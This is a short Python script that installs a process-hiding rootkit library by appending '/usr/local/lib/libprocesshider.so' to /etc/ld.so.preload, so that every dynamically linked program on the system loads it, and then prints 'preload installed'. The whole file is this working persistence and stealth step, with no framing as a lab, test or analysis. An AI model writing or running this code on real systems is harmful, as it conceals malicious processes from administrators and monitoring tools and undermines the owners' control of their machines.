import os

LIB = "/usr/local/lib/libprocesshider.so"
with open("/etc/ld.so.preload", "a") as f:
    f.write(LIB + os.linesep)
print("preload installed")
